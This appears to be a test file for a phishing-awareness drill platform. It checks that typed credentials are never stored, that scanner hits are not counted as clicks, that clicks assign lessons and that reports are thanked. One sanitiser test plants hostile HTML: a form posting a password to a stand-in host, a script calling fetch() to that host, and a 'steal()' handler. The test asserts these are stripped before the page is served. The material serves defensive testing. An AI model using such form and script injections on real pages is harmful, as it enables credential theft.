"""Tracking with care: typed values are never kept, scanners are not people, a click teaches and
assigns the lesson, reports are thanked."""

from __future__ import annotations

import json
import logging
import os
import time
from datetime import timedelta
from pathlib import Path

from django.conf import settings as django_settings
from django.core import mail
from django.db import connection
from django.urls import reverse

from drills.models import Event, EventKind, EventSource, FollowUp
from orgs.testing import sign_in_verified

from .test_tracking_world import drill_fixture, sent_recipient  # noqa: F401 (fixture)

BROWSER = (
    "Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0 Mobile Safari/537.36"
)
# What a person might type into a drill page: all of it must vanish.
TYPED = {
    "username": "nguyen.thi.hoa@so-thu-nghiem.gov.vn",
    "password": "HoaMatKhau@2026!xyz",
    "cccd": "001190012345",
    "bank_account": "0451000123987",
}


def _db_text() -> str:
    """Every row of every table, as text."""
    parts: list[str] = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")  # noqa: S608
            parts.extend(repr(row) for row in cursor.fetchall())
    return "\n".join(parts)


def _files_written_since(start: float) -> list[Path]:
    roots = {
        Path(django_settings.BASE_DIR),
        Path(getattr(django_settings, "VAR_DIR", "/nonexistent")),
    }
    roots.add(Path(getattr(django_settings, "MEDIA_ROOT", "") or "/nonexistent"))
    found = []
    for root in roots:
        if not root.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in {".venv", ".git", "node_modules"}]
            for name in filenames:
                path = Path(dirpath) / name
                try:
                    if path.stat().st_mtime >= start:
                        found.append(path)
                except OSError:
                    continue
    return found


def _contains_typed(text: str) -> list[str]:
    return [value for value in TYPED.values() if value in text]


def test_typed_values_are_never_stored(client, world, drill, caplog, capfd):
    caplog.set_level(logging.DEBUG)
    recipient = sent_recipient(world, drill)
    tid = recipient.tracking_id
    start = time.time() - 1
    client.get(reverse("drill-landing", args=[tid]), HTTP_USER_AGENT=BROWSER)
    # What a form, a script or an attacker could send: a form post, JSON, a query string.
    for url in (reverse("drill-submitted", args=[tid]), reverse("drill-beacon", args=[tid])):
        client.post(url, TYPED, HTTP_USER_AGENT=BROWSER)
        client.post(url, json.dumps(TYPED), content_type="application/json")
        client.post(url + "?" + "&".join(f"{k}={v}" for k, v in TYPED.items()), TYPED)
    assert recipient.events.filter(kind=EventKind.SUBMITTED).count() == 1
    out, err = capfd.readouterr()
    assert _contains_typed(_db_text()) == []
    assert _contains_typed(caplog.text + out + err) == []
    for path in _files_written_since(start):
        assert _contains_typed(path.read_bytes().decode("utf-8", "replace")) == [], path


def test_landing_page_form_has_nothing_to_send(client, world, drill):
    recipient = sent_recipient(world, drill)
    page = client.get(reverse("drill-landing", args=[recipient.tracking_id])).content.decode()
    assert "Mật khẩu" in page
    assert 'name="password"' not in page and 'name="username"' not in page
    assert "example.invalid" not in page
    assert "drills/landing.js" in page


def test_landing_page_stored_around_the_sanitiser_is_served_clean(client, world, drill):
    """A page written straight to the table (not through the admin or the loader) is cleaned
    as it is served: no script, no handler, no form target."""
    recipient = sent_recipient(world, drill)
    page = recipient.campaign.landing_page
    page.html = (
        '<form action="https://example.invalid/steal"><input type="password" name="password">'
        '<script>fetch("https://example.invalid/x")</script>'
        '<button type="submit" onclick="steal()" formaction="https://example.invalid/y">OK'
        "</button></form>"
    )
    page.save()
    served = client.get(reverse("drill-landing", args=[recipient.tracking_id])).content.decode()
    assert "OK" in served
    assert "example.invalid" not in served
    assert "steal()" not in served and "<script>fetch" not in served
    assert 'name="password"' not in served


def test_scanner_hit_is_not_a_click(client, world, drill):
    recipient = sent_recipient(world, drill)
    click = reverse("drill-click", args=[recipient.tracking_id])
    # A mail gateway's link check, and a browser-like agent seconds after delivery.
    client.get(click, HTTP_USER_AGENT="Mozilla/5.0 (compatible; Proofpoint URL Defense)")
    just_sent = sent_recipient(world, drill, name="staff_d1_c2", ago=2)
    client.get(reverse("drill-click", args=[just_sent.tracking_id]), HTTP_USER_AGENT=BROWSER)
    response = client.get(click, HTTP_USER_AGENT=BROWSER)
    assert response.status_code == 302
    assert response["Location"] == reverse("drill-landing", args=[recipient.tracking_id])
    clicks = Event.objects.filter(kind=EventKind.CLICKED)
    assert clicks.filter(source=EventSource.SCANNER).count() == 2
    assert clicks.filter(source=EventSource.UNCONFIRMED).count() == 1
    assert not clicks.filter(source=EventSource.PERSON).exists()
    assert not FollowUp.objects.exists()


def test_beacon_makes_one_persons_click(client, world, drill):
    recipient = sent_recipient(world, drill)
    beacon = reverse("drill-beacon", args=[recipient.tracking_id])
    assert client.post(beacon).status_code == 204
    assert client.post(beacon).status_code == 204
    people = recipient.events.filter(kind=EventKind.CLICKED, source=EventSource.PERSON)
    assert people.count() == 1


def test_click_assigns_the_lesson_and_teaches_the_cues(client, world, drill):
    recipient = sent_recipient(world, drill)
    client.post(reverse("drill-beacon", args=[recipient.tracking_id]))
    follow_up = FollowUp.objects.get(recipient=recipient)
    assert follow_up.lesson == drill.template.lesson
    remaining = follow_up.deadline - follow_up.created_at
    assert timedelta(days=13) < remaining <= timedelta(days=14)
    response = client.post(reverse("drill-submitted", args=[recipient.tracking_id]))
    assert response.status_code == 302
    page = client.get(response["Location"]).content.decode()
    for cue in drill.template.cue_list():
        assert cue in page
    assert follow_up.lesson is not None
    assert reverse("learn-lesson", args=[follow_up.lesson.slug]) in page


def test_open_pixel_counts_people_and_scanners_apart(client, world, drill):
    recipient = sent_recipient(world, drill)
    pixel = reverse("drill-pixel", args=[recipient.tracking_id])
    client.get(pixel, HTTP_USER_AGENT="Mozilla/5.0 (via ggpht.com GoogleImageProxy)")
    response = client.get(pixel, HTTP_USER_AGENT=BROWSER)
    assert response["Content-Type"] == "image/gif"
    opens = recipient.events.filter(kind=EventKind.OPENED)
    assert sorted(opens.values_list("source", flat=True)) == ["person", "scanner"]
    unknown = client.get(reverse("drill-pixel", args=["abcdefghijkmnpqr"]))
    assert unknown.status_code == 200 and unknown["Content-Type"] == "image/gif"


def test_transparency_page_names_the_drill_and_a_contact(client, world, drill, settings):
    settings.DRILLS_CONTACT_ADDRESS = "dien-tap@so-thu-nghiem.gov.vn"
    recipient = sent_recipient(world, drill)
    response = client.get(f"/d/{recipient.tracking_id}+")
    page = response.content.decode()
    assert response.status_code == 200
    assert "dien-tap@so-thu-nghiem.gov.vn" in page and drill.name in page
    assert recipient.email not in page
    assert client.get("/d/abcdefghijkmnpqr+").status_code == 404
    assert not recipient.events.exists()


def test_report_button_records_and_thanks_once(
    client,
    world,
    drill,
    settings,
    django_capture_on_commit_callbacks,
):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    recipient = sent_recipient(world, drill)
    other = sent_recipient(world, drill, name="staff_d1_c2")
    sign_in_verified(client, recipient.person)
    assert "Báo cáo thư đáng ngờ" in client.get(reverse("drill-report")).content.decode()
    pasted = f"Link: http://x/d/{recipient.tracking_id} và http://x/d/{other.tracking_id}"
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("drill-report"), {"message": pasted})
        client.post(reverse("drill-report"), {"message": pasted})
    # The same words as for any mail (test_report_button): the page does not say "drill".
    assert "Chúng tôi đã ghi nhận" in response.content.decode()
    assert recipient.events.filter(kind=EventKind.REPORTED, channel="portal").count() == 1
    assert not other.events.filter(kind=EventKind.REPORTED).exists()
    assert [m.to for m in mail.outbox] == [[recipient.email]] * 2  # each press is thanked


def test_report_of_a_mail_that_is_no_drill_is_thanked(client, world, drill):
    sign_in_verified(client, world.person("staff_d1_c1"))
    response = client.post(reverse("drill-report"), {"message": "Trúng thưởng iPhone!"})
    assert response.status_code == 200
    assert "Chúng tôi đã ghi nhận" in response.content.decode()
    assert not Event.objects.exists()
